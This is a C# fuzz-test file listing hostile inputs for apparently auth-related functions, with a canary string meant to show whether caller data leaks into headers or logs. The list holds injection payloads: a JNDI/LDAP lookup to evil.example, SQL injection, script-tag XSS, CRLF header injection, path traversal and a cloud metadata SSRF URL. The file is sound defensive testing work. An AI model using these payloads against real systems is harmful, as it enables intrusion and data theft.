namespace ActionsFunctions.Fuzz;

/// <summary>Texts that people register with, or send, to get somewhere else.</summary>
internal static class HostileText
{
    /// <summary>Marks what came from a caller: it must be in no refusal, no header and no line of the log.</summary>
    public const string Canary = "canary7f3a";

    public static IReadOnlyList<string> All { get; } =
    [
        "", " ", ".", "..", "../admin", "..%2f..%2fadmin", "a/b", "a\\b", "//evil.example", "?x=1", "#x", "a;b", "@evil.example", "a@b@c", "%", "%00", "%ED%A0%80",
        "\0", "a\0b", "\r\nX-Injected: " + Canary, "a\nb", "\u2028", "\u202Etxt.exe", "\uFEFF", "\uFFFD", "\uFFFF", "\u0301", "é", "ß", "İ", "😀", "\U0010FFFF", "ⅷ",
        "__proto__", "constructor", "toString", "{user.email}", "{{7*7}}", "${jndi:ldap://evil.example/a}", "' OR '1'='1", "<script>alert(1)</script>", "null", "true", "NaN",
        "-0", "1e999", "9223372036854775808", "0x10", "٣", "1970-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59.9999999-14:00", "2026-02-30T25:61:61Z",
        "http://169.254.169.254/metadata", "http://[::1]/", "http://localhost:1/", "https://user:pass@evil.example/", "urn:auth0:x", "https://auth0.com/x", "javascript:alert(1)",
        "auth0|" + Canary, Canary + "@contoso.example", "keyvault:" + Canary, "Bearer " + Canary, "admin", "groups", "roles", "sub", "aud", "scope", "exp", "iss", "ext", "role",
        "app_metadata", "extension_a", "email", "version", "action", "com.okta.identity.patch", "function/preuserinfo", "preaccesstoken", "PreTokenIssuance", "client_credentials",
        new('a', 255), new('b', 256), new('c', 257), new('d', 1024), new('e', 1025), new('/', 300), new('é', 600), new('9', 400), string.Concat(Enumerable.Repeat("😀", 200)),
        string.Concat(Enumerable.Repeat("%2e%2e%2f", 40)), new('\u0301', 100), new('"', 50), new('\\', 51),
    ];
}
